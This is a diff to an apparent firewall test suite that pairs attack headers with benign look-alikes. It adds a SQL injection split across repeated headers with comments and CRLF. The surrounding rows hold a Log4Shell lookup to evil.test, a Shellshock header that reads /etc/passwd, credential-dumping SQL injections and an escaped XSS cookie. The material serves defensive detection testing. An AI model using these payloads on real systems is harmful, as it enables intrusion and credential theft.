@@ -131,6 +131,11 @@ describe("an attack is blocked and its look-alike passes", () => {
     ["log4j", "X-Api-Version: ${jndi:ldap://evil.test/a}", "X-Api-Version: 2"],
     ["rce", "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'", "User-Agent: curl/8.0 (bin; bash)"],
     ["sqli", "X_Id: 1' union select user,password from users-- ", "X_Id: select one"],
+    [
+      "sqli",
+      "X-A: 1' union/*\r\nX-B: x\r\nx_a: */select user,password/*\r\nX-A: */from users-- ",
+      "X-A: 1\r\nX-A: select\r\nx_a: one",
+    ],
     // Between quotes a cookie has escapes of any character.
     ["sqli", 'Cookie: id="1\\047 uni\\on \\163elect user,password from users-- "', 'Cookie: id="O\\047Brien \\"x\\""'],
     ["xss", 'Cookie: $Version=1; q="\\074script\\076alert(1)\\074/script\\076"', 'Cookie: q="C:\\temp\\new"'],
